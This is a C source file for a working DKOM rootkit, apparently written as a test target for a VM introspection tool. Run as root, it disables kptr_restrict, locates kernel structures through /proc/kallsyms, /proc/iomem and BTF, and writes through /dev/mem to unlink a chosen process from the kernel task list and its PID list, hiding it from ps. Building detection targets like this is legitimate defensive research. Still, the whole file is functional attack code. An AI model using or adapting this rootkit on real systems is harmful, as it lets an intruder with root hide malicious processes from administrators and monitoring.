// SPDX-License-Identifier: GPL-2.0
/*
 * dkom: the lab's rootkit, for the introspection featurevisor to catch.
 * Run as root inside the span guest, it hides a process by direct kernel
 * object manipulation through /dev/mem (no module), as an attacker with
 * root would on a kernel with CONFIG_DEVMEM and no STRICT_DEVMEM:
 *
 *  - addresses: /proc/kallsyms (kptr_restrict=0) for _text, init_task and
 *    page_offset_base; /proc/iomem's "Kernel code" for where _text is in
 *    physical memory; page_offset_base (the randomized direct map) read
 *    through /dev/mem;
 *  - offsets: the guest kernel's own BTF (/sys/kernel/btf/vmlinux), with
 *    the featurevisor's reader (introspect.c), none written by hand;
 *  - hiding: the task is unlinked from init_task.tasks (what the kernel's
 *    own walkers see) and from its pid's PIDTYPE_TGID list (what /proc's
 *    readdir, hence ps, uses: next_tgid() skips a pid whose
 *    pid_task(pid, PIDTYPE_TGID) is NULL).  Its own nodes are made to
 *    point at themselves, so when it exits, list_del_rcu() and
 *    hlist_del_rcu() write only into the task itself.
 *
 * The process keeps running, and kill(2) still finds it (PIDTYPE_PID is
 * left alone).  Refused unless the task leads its process group: the
 * PGID link then keeps its struct pid alive until the last detach, so
 * exit frees the pid once (with PIDTYPE_TGID emptied and nothing else,
 * detach_pid() would free it at PIDTYPE_PID and again at PIDTYPE_TGID).
 *
 * Usage: dkom PID      exit 0 hidden, 1 failed, 2 bad command line
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <bpf/btf.h>
#include <bpf/libbpf.h>

#include "fv/introspect.h"

static int mem_fd;
static uint64_t text, text_phys, page_offset = X86_PAGE_OFFSET_DEFAULT;

static void die(const char *what) __attribute__((noreturn));
static void die(const char *what)
{
	fprintf(stderr, "dkom: %s\n", what);
	exit(1);
}

/* The kernel image is at text_phys; everything else in the direct map. */
static uint64_t kpa(uint64_t va)
{
	if (va >= X86_START_KERNEL_MAP && va - X86_START_KERNEL_MAP < X86_KERNEL_IMAGE_SIZE)
		return text_phys + (va - text);
	return va - page_offset;
}

static uint64_t kread(uint64_t va)
{
	uint64_t v;

	if (pread(mem_fd, &v, 8, kpa(va)) != 8)
		die("read through /dev/mem failed");
	return v;
}

static void kread_buf(uint64_t va, void *buf, size_t len)
{
	if (pread(mem_fd, buf, len, kpa(va)) != (ssize_t)len)
		die("read through /dev/mem failed");
}

static void kwrite(uint64_t va, uint64_t v)
{
	if (pwrite(mem_fd, &v, 8, kpa(va)) != 8)
		die("write through /dev/mem failed");
}

static uint64_t kallsym(const char *name)
{
	char line[256], sym[128], type;
	unsigned long long a;
	uint64_t v = 0;
	FILE *f = fopen("/proc/kallsyms", "r");

	if (!f)
		die("cannot read /proc/kallsyms");
	while (!v && fgets(line, sizeof(line), f))
		if (sscanf(line, "%llx %c %127s", &a, &type, sym) == 3 && !strcmp(sym, name))
			v = a;
	fclose(f);
	return v;
}

static uint64_t kernel_code_phys(void)
{
	unsigned long long start = 0;
	char line[256];
	FILE *f = fopen("/proc/iomem", "r");

	if (!f)
		die("cannot read /proc/iomem");
	while (fgets(line, sizeof(line), f))
		if (strstr(line, ": Kernel code") && sscanf(line, " %llx-", &start) == 1)
			break;
	fclose(f);
	return start;
}

int main(int argc, char **argv)
{
	struct intro_offsets o;
	uint64_t init_task, pob, head, cur, task = 0, next, prev, node, spid, hn, hnext, hpprev;
	char err[160], comm[65] = "", *end;
	struct btf *btf;
	long target;
	int fd, n;

	if (argc != 2 || (target = strtol(argv[1], &end, 10)) <= 0 || *end) {
		fprintf(stderr, "usage: dkom PID\n");
		return 2;
	}
	/* Root may read kernel addresses once kptr_restrict says so. */
	fd = open("/proc/sys/kernel/kptr_restrict", O_WRONLY);
	if (fd < 0 || write(fd, "0\n", 2) != 2)
		die("cannot set kernel.kptr_restrict=0 (not root?)");
	close(fd);
	libbpf_set_print(NULL);
	btf = btf__parse("/sys/kernel/btf/vmlinux", NULL);
	if (!btf)
		die("cannot read /sys/kernel/btf/vmlinux");
	if (intro__offsets(btf, &o, err, sizeof(err)))
		die(err);
	text = kallsym("_text");
	init_task = kallsym("init_task");
	pob = kallsym("page_offset_base");
	text_phys = kernel_code_phys();
	if (!text || !init_task || !text_phys)
		die("no _text or init_task in /proc/kallsyms, or no Kernel code in /proc/iomem");
	mem_fd = open("/dev/mem", O_RDWR | O_SYNC);
	if (mem_fd < 0)
		die("cannot open /dev/mem read-write (CONFIG_DEVMEM, no STRICT_DEVMEM?)");
	if (pob)
		page_offset = kread(pob);
	printf("dkom: _text %#llx at physical %#llx (KASLR slide %#llx), direct map at %#llx\n",
	       (unsigned long long)text, (unsigned long long)text_phys,
	       (unsigned long long)(text - 0xffffffff81000000ULL),
	       (unsigned long long)page_offset);

	/* Find the process in init_task.tasks. */
	head = init_task + o.tasks;
	for (cur = kread(head + o.list_next), n = 0; cur != head && n < INTRO_MAX_TASKS;
	     cur = kread(cur + o.list_next), n++) {
		int32_t pid, tgid;

		kread_buf(cur - o.tasks + o.pid, &pid, 4);
		kread_buf(cur - o.tasks + o.tgid, &tgid, 4);
		if (pid == target && tgid == target) {
			task = cur - o.tasks;
			break;
		}
	}
	if (!task)
		die("no such process in the task list");
	kread_buf(task + o.comm, comm, o.comm_len < 64 ? o.comm_len : 64);
	spid = kread(task + o.thread_pid);
	if (!kread(spid + o.pid_tasks + o.pidtype_pgid * o.hlist_head_size))
		die("not a process-group leader: its pid would be freed twice when it exits "
		    "(start it with setsid)");

	/* init_task.tasks: the neighbours skip it, its node points at itself. */
	node = task + o.tasks;
	next = kread(node + o.list_next);
	prev = kread(node + o.list_prev);
	kwrite(prev + o.list_next, next);
	kwrite(next + o.list_prev, prev);
	kwrite(node + o.list_next, node);
	kwrite(node + o.list_prev, node);
	/* pid->tasks[PIDTYPE_TGID]: out of the hlist, which it alone was in. */
	hn = task + o.pid_links + o.pidtype_tgid * o.hlist_node_size;
	hnext = kread(hn + o.hnode_next);
	hpprev = kread(hn + o.hnode_pprev);
	kwrite(hpprev, hnext);
	if (hnext)
		kwrite(hnext + o.hnode_pprev, hpprev);
	kwrite(hn + o.hnode_next, 0);
	kwrite(hn + o.hnode_pprev, hn + o.hnode_next);
	printf("dkom: pid %ld (%s), task_struct at %#llx: out of init_task.tasks and of "
	       "its pid's PIDTYPE_TGID list (first now %#llx)\n", target, comm,
	       (unsigned long long)task,
	       (unsigned long long)kread(spid + o.pid_tasks + o.pidtype_tgid * o.hlist_head_size));
	btf__free(btf);
	return 0;
}
